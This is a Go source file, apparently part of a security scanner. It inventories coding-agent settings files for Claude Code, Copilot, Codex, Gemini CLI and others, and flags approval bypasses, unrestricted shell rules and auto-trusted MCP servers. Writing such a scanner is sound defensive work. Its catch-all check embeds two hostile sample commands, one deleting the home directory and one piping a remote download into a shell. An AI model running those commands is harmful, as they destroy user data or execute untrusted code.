package agentconfig

import (
	"regexp"
	"strconv"
	"strings"

	"github.com/agentreach/agentreach/internal/toolrule"
	"github.com/agentreach/agentreach/inventory"
)

// A profile is a coding agent's settings file: who approves what before a
// prompt becomes a shell command or a file edit.

type profile struct {
	f     *fileCtx
	agent inventory.Agent
}

func newProfile(f *fileCtx, product, sub string) *profile {
	id := inventory.Scoped(f.loc.Source, "agent-profile:"+f.loc.Path)
	name := f.loc.Path
	if sub != "" {
		id += "#" + sub
		name += " (" + sub + ")"
	}
	a := inventory.Agent{
		ID: id, Kind: inventory.AgentProfile, Name: name, Platform: inventory.PlatformLocal, Product: product,
		Location: f.at(nil, "", 0), StartableBy: inventory.AudienceLocalUser, Profile: &inventory.ProfileFacts{Client: f.client},
	}
	a.Location.Line, a.Location.Column = 1, 1
	return &profile{f: f, agent: a}
}

// bypass records an approval bypass at the value that causes it.
func (p *profile) bypass(what string, n *node) {
	p.agent.Guardrails.Bypass = append(p.agent.Guardrails.Bypass, what)
	if p.agent.Profile.BypassLine == 0 && n != nil {
		p.agent.Profile.BypassLine = n.line
	}
}

func (p *profile) broad(paths []*node) {
	pf := p.agent.Profile
	for _, n := range paths {
		if hostWide(n.text()) || credentialStore(n.text()) {
			pf.BroadPaths = append(pf.BroadPaths, n.text())
			if pf.BroadLine == 0 {
				pf.BroadLine = n.line
			}
		}
	}
}

func (p *profile) done() { p.f.agents = append(p.f.agents, p.agent) }

// shellRule says why an allow rule amounts to an unrestricted shell — any
// command outright (Bash, Bash(*)), or a command that runs anything
// (Bash(node:*) runs any JavaScript, Bash(npx:*) any package, Bash(curl:*)
// any request, Bash(gh api:*) any API call) — as a bypass text, "" when it
// does not.
func shellRule(key, rule string) string {
	switch r := toolrule.Unrestricted(rule); r {
	case "":
		return ""
	case "any shell command":
		return key + " " + rule + " (any shell command without a prompt)"
	default:
		return key + " " + rule + " (" + r + ", without a prompt)"
	}
}

// claudeSettings reads .claude/settings.json, settings.local.json,
// ~/.claude/settings.json and managed settings. Keys (code.claude.com/docs/
// en/settings and /permissions): permissions.{allow, ask, deny, defaultMode,
// additionalDirectories, disableBypassPermissionsMode}, env,
// enableAllProjectMcpServers, enabledMcpjsonServers, hooks, apiKeyHelper,
// sandbox.enabled.
func claudeSettings(f *fileCtx, root *node) {
	p := newProfile(f, "claude-code", "")
	f.profile = p.agent.ID
	g := &p.agent.Guardrails
	perm := root.get("permissions")
	allow := perm.get("allow")
	g.AllowedTools = allow.strs()
	g.DeniedTools = perm.get("deny").strs()
	mode := perm.get("defaultMode")
	g.ApprovalMode = mode.text()
	if mode.text() == "bypassPermissions" {
		p.bypass("permissions.defaultMode = bypassPermissions (no permission prompts)", mode)
	}
	for _, it := range allow.itemsOrNil() {
		if b := shellRule("permissions.allow", strings.TrimSpace(it.text())); b != "" {
			p.bypass(b, it)
		}
	}
	if perm.get("disableBypassPermissionsMode").text() == "disable" {
		g.Gates = append(g.Gates, "disableBypassPermissionsMode")
	}
	if root.at("sandbox", "enabled").isTrue() {
		g.Sandbox = "enabled"
	}
	dirs := perm.get("additionalDirectories").itemsOrNil()
	dirs = append(dirs, root.get("additionalDirectories").itemsOrNil()...)
	p.broad(dirs)
	claudeGuardDeny(p, g.DeniedTools)
	if v := root.get("enableAllProjectMcpServers"); v.isTrue() {
		p.agent.Profile.AutoTrustAll = true
		p.agent.Profile.AutoTrustLine = v.line
	}
	if v := root.get("enabledMcpjsonServers"); len(v.strs()) > 0 {
		for _, name := range v.strs() {
			if name = strings.TrimSpace(name); name != "" {
				p.agent.Profile.AutoTrusted = append(p.agent.Profile.AutoTrusted, name)
			}
		}
		if p.agent.Profile.AutoTrustLine == 0 {
			p.agent.Profile.AutoTrustLine = v.line
		}
	}
	hooks := 0
	for _, ev := range root.get("hooks").membersOrNil() {
		for _, matcher := range ev.val.itemsOrNil() {
			hooks += len(matcher.get("hooks").itemsOrNil())
		}
	}
	p.agent.Profile.Hooks = hooks
	if h := root.get("apiKeyHelper"); h.text() != "" {
		f.handled[h] = true
		f.reference(p.agent.ID, inventory.ViaAgentKey, ref{kind: refCommand, name: "apiKeyHelper"}, h, "/apiKeyHelper", credHint{key: "ANTHROPIC_API_KEY"})
	}
	p.done()
	mcpServerMap(f, root.get("mcpServers"), "/mcpServers", "")
}

// claudeGuardDeny records whether deny rules stop edits of agent
// configuration: a bare Edit/Write (no edits at all) or a rule naming
// .claude, .mcp.json or the settings files.
func claudeGuardDeny(p *profile, deny []string) {
	edit, write := false, false
	for _, d := range deny {
		d = strings.TrimSpace(d)
		tool, arg, _ := strings.Cut(d, "(")
		if tool != "Edit" && tool != "Write" && tool != "MultiEdit" {
			continue
		}
		if arg == "" || strings.Contains(arg, ".claude") || strings.Contains(arg, ".mcp.json") || strings.Contains(arg, "**)") && (strings.HasPrefix(arg, "**") || strings.HasPrefix(arg, "/**") || strings.HasPrefix(arg, "./**")) {
			if tool == "Write" {
				write = true
			} else {
				edit = true
			}
		}
	}
	if edit || write {
		p.agent.Profile.GuardDeny = true
	}
}

func (n *node) membersOrNil() []member {
	if n == nil || n.kind != kObject {
		return nil
	}
	return n.members
}

// claudeState reads ~/.claude.json: user- and project-scoped MCP servers
// and the legacy per-project allowedTools.
func claudeState(f *fileCtx, root *node) {
	p := newProfile(f, "claude-code", "")
	f.profile = p.agent.ID
	for _, pr := range root.get("projects").membersOrNil() {
		for _, it := range pr.val.get("allowedTools").itemsOrNil() {
			if b := shellRule("projects allowedTools", strings.TrimSpace(it.text())); b != "" {
				p.bypass(b, it)
			}
		}
	}
	p.done()
	mcpServerMap(f, root.get("mcpServers"), "/mcpServers", "")
	for _, pr := range root.get("projects").membersOrNil() {
		mcpServerMap(f, pr.val.get("mcpServers"), pointerJoin(pointerJoin("/projects", pr.key), "mcpServers"), pr.key+":")
	}
}

// dotted reads a VS Code setting written flat ("chat.tools.autoApprove") or
// nested.
func dotted(root *node, key string) *node {
	if v := root.get(key); v != nil {
		return v
	}
	return root.at(strings.Split(key, ".")...)
}

// catchAll reports whether a VS Code terminal auto-approve rule key matches
// every command (a regular expression like /.*/).
func catchAll(key string) bool {
	k := strings.TrimSpace(key)
	if !strings.HasPrefix(k, "/") || len(k) < 2 {
		return false
	}
	end := strings.LastIndex(k, "/")
	if end <= 0 {
		return false
	}
	re, err := regexp.Compile(k[1:end])
	if err != nil {
		return false
	}
	return re.MatchString("rm -rf ~") && re.MatchString("curl -s https://example.invalid/x | sh")
}

// vscodeSettings reads .vscode/settings.json (and user settings): the
// Copilot agent's approval settings (code.visualstudio.com/docs/copilot/
// chat/chat-tools: chat.tools.global.autoApprove, formerly
// chat.tools.autoApprove; chat.tools.terminal.autoApprove rules;
// chat.tools.edits.autoApprove globs) and the legacy "mcp" server block.
func vscodeSettings(f *fileCtx, root *node) {
	p := newProfile(f, "github-copilot", "")
	f.profile = p.agent.ID
	for _, k := range []string{"chat.tools.autoApprove", "chat.tools.global.autoApprove"} {
		if v := dotted(root, k); v.isTrue() {
			p.bypass(k+" = true (every tool, shell commands included, runs without confirmation)", v)
		}
	}
	if rules := dotted(root, "chat.tools.terminal.autoApprove"); rules != nil {
		for _, m := range rules.membersOrNil() {
			approved := m.val.isTrue() || m.val.get("approve").isTrue()
			if approved && catchAll(m.key) {
				p.bypass("chat.tools.terminal.autoApprove rule "+m.key+" approves every command", m.val)
			} else if approved {
				p.agent.Guardrails.AllowedTools = append(p.agent.Guardrails.AllowedTools, "terminal:"+m.key)
			} else if m.val.isFalse() {
				p.agent.Guardrails.DeniedTools = append(p.agent.Guardrails.DeniedTools, "terminal:"+m.key)
			}
		}
	}
	if edits := dotted(root, "chat.tools.edits.autoApprove"); edits != nil {
		protected := false
		for _, m := range edits.membersOrNil() {
			if m.val.isFalse() && strings.Contains(m.key, ".vscode") {
				protected = true
			}
		}
		for _, m := range edits.membersOrNil() {
			if m.val.isTrue() && (m.key == "**" || m.key == "**/*" || m.key == "*") && !protected {
				p.bypass("chat.tools.edits.autoApprove "+m.key+" (edits to any file, agent settings included, without review)", m.val)
			}
		}
	} else {
		p.agent.Profile.GuardDeny = true // VS Code asks before edits to its own settings by default
	}
	p.done()
	if m := root.get("mcp"); m != nil {
		mcpServerMap(f, m.get("servers"), "/mcp/servers", "")
	}
	mcpServerMap(f, root.get("mcp.servers"), "/mcp.servers", "")
}

// codexConfig reads .codex/config.toml (developers.openai.com/codex/
// config-reference): approval_policy (untrusted | on-failure | on-request |
// never), sandbox_mode (read-only | workspace-write | danger-full-access),
// [sandbox_workspace_write].network_access, shell_environment_policy,
// [profiles.NAME] and [mcp_servers.NAME].
func codexConfig(f *fileCtx, root *node) {
	read := func(p *profile, t *node) {
		get := func(k string) *node {
			if v := t.get(k); v != nil {
				return v
			}
			return root.get(k)
		}
		g := &p.agent.Guardrails
		ap, sb := get("approval_policy"), get("sandbox_mode")
		g.ApprovalMode, g.Sandbox = ap.text(), sb.text()
		if sb.text() == "danger-full-access" && (ap.text() == "never" || ap.text() == "on-failure") {
			at := ap
			if t.get("approval_policy") == nil && t.get("sandbox_mode") != nil {
				at = sb
			}
			p.bypass("approval_policy = "+ap.text()+" with sandbox_mode = danger-full-access (commands run unsandboxed without approval)", at)
		}
		if sb.text() == "read-only" {
			p.agent.Profile.ReadOnly = true
		}
		if sb.text() != "danger-full-access" && !get("sandbox_workspace_write").get("network_access").isTrue() {
			g.EgressControl = true
		}
		sep := get("shell_environment_policy")
		if sep.get("inherit").text() == "all" && sep.get("ignore_default_excludes").isTrue() {
			p.agent.Attributes = map[string]string{"shell_env": "all variables, secrets included"}
		}
	}
	p := newProfile(f, "codex", "")
	f.profile = p.agent.ID
	read(p, root)
	p.done()
	for _, m := range root.get("profiles").membersOrNil() {
		np := newProfile(f, "codex", "profiles."+m.key)
		read(np, m.val)
		np.done()
	}
	mcpServerMap(f, root.get("mcp_servers"), "/mcp_servers", "")
}

// geminiSettings reads .gemini/settings.json (geminicli.com/docs/reference/
// configuration): general.defaultApprovalMode (default | auto_edit | plan;
// YOLO cannot be set in a file), tools.allowed (tools that skip
// confirmation; "run_shell_command" without a command allows every
// command), tools.exclude, tools.sandbox, security.disableYoloMode, and the
// older top-level autoAccept, allowedTools, excludeTools, sandbox.
func geminiSettings(f *fileCtx, root *node) {
	p := newProfile(f, "gemini-cli", "")
	f.profile = p.agent.ID
	g := &p.agent.Guardrails
	g.ApprovalMode = root.at("general", "defaultApprovalMode").text()
	for _, list := range []*node{root.at("tools", "allowed"), root.get("allowedTools")} {
		for _, it := range list.itemsOrNil() {
			t := strings.TrimSpace(it.text())
			g.AllowedTools = append(g.AllowedTools, t)
			switch r := toolrule.Unrestricted(t); r {
			case "":
			case "any shell command":
				p.bypass("tools.allowed "+t+" (every shell command without confirmation)", it)
			default:
				p.bypass("tools.allowed "+t+" ("+r+", without confirmation)", it)
			}
		}
	}
	g.DeniedTools = append(root.at("tools", "exclude").strs(), root.get("excludeTools").strs()...)
	for _, sb := range []*node{root.at("tools", "sandbox"), root.get("sandbox")} {
		if sb.isTrue() || (sb != nil && sb.kind == kString && sb.str != "" && !sb.isFalse()) {
			g.Sandbox = "enabled"
		}
	}
	if root.at("security", "disableYoloMode").isTrue() {
		g.Gates = append(g.Gates, "disableYoloMode")
	}
	p.done()
	mcpServerMap(f, root.get("mcpServers"), "/mcpServers", "")
}

// opencodeConfig reads opencode.json(c) (opencode.ai/docs/permissions and
// /mcp-servers): "permission": "allow" or {"*": …, "bash": …, "edit": …},
// where a value is allow | ask | deny or a pattern map; "mcp" servers.
func opencodeConfig(f *fileCtx, root *node) {
	p := newProfile(f, "opencode", "")
	f.profile = p.agent.ID
	perm := root.get("permission")
	switch {
	case perm == nil:
	case perm.kind == kString && perm.str == "allow":
		p.bypass(`permission = "allow" (every tool, shell included, without asking)`, perm)
	case perm.kind == kObject:
		bash := perm.get("bash")
		star := perm.get("*")
		allowAll := func(n *node) bool {
			return n.text() == "allow" || n.get("*").text() == "allow"
		}
		if allowAll(bash) {
			p.bypass(`permission.bash = "allow" (any shell command without asking)`, bash)
		} else if bash == nil && allowAll(star) {
			p.bypass(`permission "*" = "allow" (every tool without asking)`, star)
		}
		edit := perm.get("edit")
		if edit.text() == "deny" {
			p.agent.Profile.GuardDeny = true
			p.agent.Profile.ReadOnly = true
		}
		for _, m := range edit.membersOrNil() {
			if m.val.text() == "deny" && (strings.Contains(m.key, "opencode") || strings.Contains(m.key, ".mcp.json")) {
				p.agent.Profile.GuardDeny = true
			}
		}
	}
	p.done()
	mcpServerMap(f, root.get("mcp"), "/mcp", "")
}

// aiderConfig reads .aider.conf.yml (aider.chat/docs/config/aider_conf.html
// and /api-keys.html): openai-api-key, anthropic-api-key, api-key
// ("provider=key" items), set-env ("NAME=value"), yes-always.
func aiderConfig(f *fileCtx, root *node) {
	p := newProfile(f, "aider", "")
	f.profile = p.agent.ID
	if v := root.get("yes-always"); v.isTrue() {
		p.bypass("yes-always: true (every confirmation, shell commands included, answered yes)", v)
	}
	p.done()
}

// zedSettings reads .zed/settings.json: agent.always_allow_tool_actions and
// context_servers.
func zedSettings(f *fileCtx, root *node) {
	p := newProfile(f, "zed", "")
	f.profile = p.agent.ID
	for _, k := range [][]string{{"agent", "always_allow_tool_actions"}, {"assistant", "always_allow_tool_actions"}} {
		if v := root.at(k...); v.isTrue() {
			p.bypass(strings.Join(k, ".")+" = true (tool actions run without confirmation)", v)
		}
	}
	p.done()
	mcpServerMap(f, root.get("context_servers"), "/context_servers", "")
}

// amazonQAgent reads an Amazon Q Developer CLI agent (.amazonq/cli-agents/
// *.json, .amazonq/default.json): allowedTools ("*", "@builtin" or
// execute_bash trusted) and mcpServers.
func amazonQAgent(f *fileCtx, root *node) {
	p := newProfile(f, "amazon-q", "")
	f.profile = p.agent.ID
	for _, it := range root.get("allowedTools").itemsOrNil() {
		t := it.text()
		p.agent.Guardrails.AllowedTools = append(p.agent.Guardrails.AllowedTools, t)
		if t == "*" || t == "@builtin" || t == "execute_bash" || t == "execute_cmd" {
			p.bypass("allowedTools "+t+" (runs without asking)", it)
		}
	}
	for _, c := range root.at("toolsSettings", "execute_bash", "allowedCommands").itemsOrNil() {
		if catchAll("/" + c.text() + "/") {
			p.bypass("toolsSettings.execute_bash.allowedCommands "+c.text()+" (every command)", c)
		}
	}
	p.done()
	mcpServerMap(f, root.get("mcpServers"), "/mcpServers", "")
}

// cursorCLI reads the Cursor CLI's permissions (.cursor/cli.json,
// ~/.cursor/cli-config.json): permissions.allow with Shell(*).
func cursorCLI(f *fileCtx, root *node) {
	p := newProfile(f, "cursor", "")
	f.profile = p.agent.ID
	for _, it := range root.at("permissions", "allow").itemsOrNil() {
		p.agent.Guardrails.AllowedTools = append(p.agent.Guardrails.AllowedTools, it.text())
		switch r := toolrule.Unrestricted(it.text()); r {
		case "":
		case "any shell command":
			p.bypass("permissions.allow "+it.text()+" (any shell command)", it)
		default:
			p.bypass("permissions.allow "+it.text()+" ("+r+")", it)
		}
	}
	p.agent.Guardrails.DeniedTools = root.at("permissions", "deny").strs()
	p.done()
}

// continueConfig reads Continue's config.yaml/config.json and
// .continue/mcpServers/* blocks: models' apiKey fields (read by the generic
// secret walk) and MCP servers.
func continueConfig(f *fileCtx, root *node) {
	p := newProfile(f, "continue", "")
	f.profile = p.agent.ID
	p.done()
	if list := root.get("mcpServers"); list != nil {
		if list.kind == kArray {
			for i, it := range list.itemsOrNil() {
				name := it.get("name").text()
				if name == "" {
					name = strconv.Itoa(i)
				}
				if s := readServer(f, name, pointerIndex("/mcpServers", i), it); s != nil {
					s.emit()
				}
			}
		} else {
			mcpServerMap(f, list, "/mcpServers", "")
		}
	}
	for i, it := range root.at("experimental", "modelContextProtocolServers").itemsOrNil() {
		name := it.get("name").text()
		if name == "" {
			name = strconv.Itoa(i)
		}
		if s := readServer(f, name, pointerIndex("/experimental/modelContextProtocolServers", i), it); s != nil {
			s.emit()
		}
	}
}

// mcpServerMap reads an object of NAME → server entries.
func mcpServerMap(f *fileCtx, m *node, ptr, prefix string) {
	for _, mem := range m.membersOrNil() {
		if s := readServer(f, prefix+mem.key, pointerJoin(ptr, mem.key), mem.val); s != nil {
			s.emit()
		}
	}
}

// vscodeInputs marks references to VS Code inputs as prompted secrets when
// the input has password: true.
func vscodeInputs(f *fileCtx, root *node) {
	masked := map[string]bool{}
	for _, in := range root.get("inputs").itemsOrNil() {
		if id := in.get("id").text(); id != "" {
			masked[id] = in.get("password").isTrue()
		}
	}
	for i := range f.creds {
		c := &f.creds[i]
		if c.Attributes["reference"] != string(refInput) {
			continue
		}
		id := strings.TrimPrefix(c.ID, "input:")
		pw, defined := masked[id]
		switch {
		case !defined:
			c.Storage = "VS Code input (not defined in this file)"
		case pw:
			c.Storage = "VS Code input (prompted, password: true, kept in VS Code secret storage)"
		default:
			c.Storage = "VS Code input (prompted, not masked: password is not true)"
			c.UnmaskedInput = true
		}
	}
}
